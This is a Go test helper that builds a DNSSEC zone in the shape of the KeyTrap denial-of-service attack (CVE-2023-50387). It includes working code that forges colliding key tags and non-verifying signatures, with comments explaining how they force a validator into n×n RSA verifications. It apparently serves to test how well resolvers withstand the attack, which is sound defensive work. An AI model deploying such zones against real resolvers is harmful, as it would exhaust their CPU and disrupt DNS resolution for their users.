package seedstest

import (
	"crypto/rand"
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// MaxKeyTrapKeys bounds KeyTrapZone's n: the DNSKEY RRset and its n RRSIGs
// must fit in one 64 KiB TCP answer.
const MaxKeyTrapKeys = 100

// KeyTrapZone builds a zone in the shape of the KeyTrap attack
// (CVE-2023-50387): its DNSKEY RRset holds n RSASHA256 keys that all share one
// key tag, and every RRset (DNSKEY included) carries n RRSIGs naming that tag,
// none of which verifies with any key. A validator that tries every key against
// every signature does n×n RSA verifications per RRset. The DS (and Anchor)
// matches the first key, so validation gets past the trust anchor. The zone
// holds an SOA, NS ns1.<origin>, ns1 A 127.0.0.1 and www A 192.0.2.1, and no
// NSEC chain. Its text is written to dir for inspection.
//
// How the tags collide: a key tag is a 16-bit ones'-complement-style sum of the
// DNSKEY RDATA (RFC 4034 Appendix B). Each key is a random odd 2048-bit modulus
// with exponent 65537; its last 16 bits are then chosen so that the sum comes
// out at the target tag. No private keys exist: the moduli are not products of
// two primes, which no verifier can tell cheaply, and a signature costs the same
// full modular exponentiation to reject as with a real key. The signatures are
// random numbers smaller than every modulus, so they are not rejected early.
// Building a zone of 50 keys takes milliseconds.
func KeyTrapZone(tb testing.TB, dir, origin string, n int) *Signed {
	tb.Helper()
	if n < 1 || n > MaxKeyTrapKeys {
		tb.Fatalf("seedstest: KeyTrapZone n=%d, want 1..%d", n, MaxKeyTrapKeys)
	}
	origin = strings.ToLower(dns.Fqdn(origin))
	hdr := func(name string, rtype uint16) dns.RR_Header {
		return dns.RR_Header{Name: name, Rrtype: rtype, Class: dns.ClassINET, Ttl: defaultTTL}
	}
	ns1 := "ns1." + origin
	s := &Signed{Origin: origin}
	for i := range n {
		k := &dns.DNSKEY{Hdr: hdr(origin, dns.TypeDNSKEY), Flags: dns.ZONE, Protocol: 3, Algorithm: dns.RSASHA256}
		if i == 0 {
			k.Flags |= dns.SEP
			collide(tb, k, -1)
		} else {
			collide(tb, k, int(s.DNSKEY[0].KeyTag()))
		}
		s.DNSKEY = append(s.DNSKEY, k)
	}

	keys := make([]dns.RR, n)
	for i, k := range s.DNSKEY {
		keys[i] = k
	}
	rrsets := [][]dns.RR{
		{&dns.SOA{Hdr: hdr(origin, dns.TypeSOA), Ns: ns1, Mbox: "hostmaster." + origin,
			Serial: 1, Refresh: 7200, Retry: 3600, Expire: 1209600, Minttl: 300}},
		{&dns.NS{Hdr: hdr(origin, dns.TypeNS), Ns: ns1}},
		keys,
		{&dns.A{Hdr: hdr(ns1, dns.TypeA), A: []byte{127, 0, 0, 1}}},
		{&dns.A{Hdr: hdr("www."+origin, dns.TypeA), A: []byte{192, 0, 2, 1}}},
	}

	now := time.Now()
	tag := s.DNSKEY[0].KeyTag()
	for _, rrset := range rrsets {
		s.RRs = append(s.RRs, rrset...)
		h := rrset[0].Header()
		for range n {
			s.RRs = append(s.RRs, &dns.RRSIG{
				Hdr:         hdr(h.Name, dns.TypeRRSIG),
				TypeCovered: h.Rrtype, Algorithm: dns.RSASHA256,
				Labels:     uint8(dns.CountLabel(h.Name)),
				OrigTtl:    h.Ttl,
				Expiration: uint32(now.Add(30 * 24 * time.Hour).Unix()),
				Inception:  uint32(now.Add(-time.Hour).Unix()),
				KeyTag:     tag, SignerName: origin,
				Signature: bogusSignature(),
			})
		}
	}

	s.DS = []*dns.DS{s.DNSKEY[0].ToDS(dns.SHA256)}
	s.Anchor = anchorText(s.DS)
	s.File = filepath.Join(dir, "db."+origin+"signed")
	var b strings.Builder
	for _, rr := range s.RRs {
		b.WriteString(rr.String())
		b.WriteByte('\n')
	}
	if err := os.WriteFile(s.File, []byte(b.String()), 0o644); err != nil {
		tb.Fatalf("seedstest: write zone: %v", err)
	}
	return s
}

// collide sets k's public key to a fabricated RSA key whose key tag is tag, or
// any tag when tag is negative.
func collide(tb testing.TB, k *dns.DNSKEY, tag int) {
	tb.Helper()
	// RDATA: flags, protocol, algorithm, then the RFC 3110 public key: exponent
	// length, exponent 65537, modulus. 4+4+256 bytes, so the modulus's last two
	// bytes are one 16-bit word of the key tag sum.
	rdata := append([]byte{byte(k.Flags >> 8), byte(k.Flags), k.Protocol, k.Algorithm, 3, 1, 0, 1}, make([]byte, 256)...)
	mod := rdata[8:]
	for range 64 {
		rand.Read(mod)
		mod[0] |= 0x80 // full 2048 bits
		mod[254], mod[255] = 0, 0
		var sum uint32
		for i := 0; i < len(rdata); i += 2 {
			sum += uint32(rdata[i])<<8 | uint32(rdata[i+1])
		}
		for w := uint32(1); w < 1<<16; w += 2 { // odd: an RSA modulus is odd
			t := sum + w
			t += t >> 16 & 0xffff
			if tag < 0 || int(t&0xffff) == tag {
				mod[254], mod[255] = byte(w>>8), byte(w)
				k.PublicKey = base64.StdEncoding.EncodeToString(rdata[4:])
				if tag >= 0 && int(k.KeyTag()) != tag {
					panic("seedstest: invariant: key tag sum disagrees with miekg/dns")
				}
				return
			}
		}
	}
	tb.Fatalf("seedstest: no key with tag %d found", tag)
}

// bogusSignature is a random 2048-bit RSA signature, below every modulus that
// collide makes.
func bogusSignature() string {
	sig := make([]byte, 256)
	rand.Read(sig)
	sig[0] &= 0x7f
	return base64.StdEncoding.EncodeToString(sig)
}
